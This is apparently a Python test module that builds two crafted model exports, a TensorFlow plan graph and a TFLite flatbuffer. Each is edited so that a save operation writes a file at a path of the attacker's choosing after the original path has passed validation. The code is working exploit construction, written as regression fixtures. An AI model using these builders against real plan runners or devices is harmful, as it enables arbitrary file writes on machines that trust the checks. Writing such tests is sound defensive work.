"""Two exports that wrote a file of the attacker's choice, while their graphs passed every check.

Both change what a file operation gets as its path after the path was looked at.
"""

import struct
from pathlib import Path
from typing import Any

import flatbuffers
import tensorflow as tf
from flatbuffers import flexbuffers
from tensorflow.core.framework import node_def_pb2
from tensorflow.lite.python import schema_py_generated as schema

from plan_runner import plan_pb2
from tests.plan_runner import plans
from tests.plan_runner.exports import rehash


def constant_over_path(folder: Path, written: Path) -> None:
    """Has an export write a file by a constant of the plan that takes the place of a path.

    The constant feeds an Identity of the path's placeholder, in front of a second SaveSlices.
    """
    plan = plans.daf_plan()
    graph = tf.compat.v1.GraphDef.FromString(plan.client_graph_bytes.value)
    between = graph.node.add(name="between", op="Identity", input=["output_filepath"])
    between.attr["T"].type = tf.string.as_datatype_enum
    save = next(node for node in graph.node if node.name == "save_client_update_tensors")
    second = graph.node.add()
    second.CopyFrom(save)
    second.name, second.input[0] = "second", "between"
    save.input.append("^second")
    plan.client_graph_bytes.value = graph.SerializeToString()
    constant = tf.make_tensor_proto(str(written)).SerializeToString()
    plan.phase[0].client_phase.tensorflow_spec.constant_inputs["between:0"] = constant
    (folder / "plan.pb").write_bytes(plan.SerializeToString())
    device = plan_pb2.ClientOnlyPlan(graph=plan.client_graph_bytes.value)
    (folder / "client_only_plan.pb").write_bytes(device.SerializeToString())
    rehash(folder)


def write_over_path(content: bytes, written: str, path: str = "out:0") -> bytes:
    """Has a TFLite graph with a FlexSaveSlices write a second file.

    A FlexIdentity of a string writes over the very tensor that holds the first one's path.
    """

    def edit(model: Any, graph: Any) -> None:
        save = next(op for op in graph.operators if custom_code(model, op) == b"FlexSaveSlices")
        text = schema.BufferT()
        # One string, as TFLite keeps strings: their number, where each begins, where all end.
        text.data = list(struct.pack("<3i", 1, 12, 12 + len(written)) + written.encode())
        model.buffers.append(text)
        constant = schema.TensorT()
        constant.name, constant.shape = b"elsewhere", []
        constant.type, constant.buffer = schema.TensorType.STRING, len(model.buffers) - 1
        graph.tensors.append(constant)
        code = schema.OperatorCodeT()
        code.builtinCode = code.deprecatedBuiltinCode = schema.BuiltinOperator.CUSTOM
        code.customCode, code.version = b"FlexIdentity", 1
        model.operatorCodes.append(code)
        identity = schema.OperatorT()
        identity.opcodeIndex = len(model.operatorCodes) - 1
        identity.inputs = [len(graph.tensors) - 1]
        identity.outputs = [tensor_number(graph, path)]
        node = node_def_pb2.NodeDef(name="over", op="Identity", input=["elsewhere"])
        node.attr["T"].type = tf.string.as_datatype_enum
        identity.customOptions = _options(node)
        graph.operators = [*graph.operators, identity, save]

    return edited(content, edit)


def edited(content: bytes, edit: Any) -> bytes:
    """Returns a flatbuffer after `edit` has changed its model, and its graph."""
    model = schema.ModelT.InitFromPackedBuf(content, 0)
    edit(model, model.subgraphs[0])
    builder = flatbuffers.Builder(0)
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def tensor_number(graph: Any, name: str) -> int:
    return next(n for n, tensor in enumerate(graph.tensors) if tensor.name == name.encode())


def custom_code(model: Any, operator: Any) -> Any:
    return model.operatorCodes[operator.opcodeIndex].customCode


def _options(node: Any) -> list[int]:
    builder = flexbuffers.Builder()
    with builder.Vector():
        builder.String(node.op)
        builder.String(node.SerializeToString().decode("latin-1"))
    return list(builder.Finish())
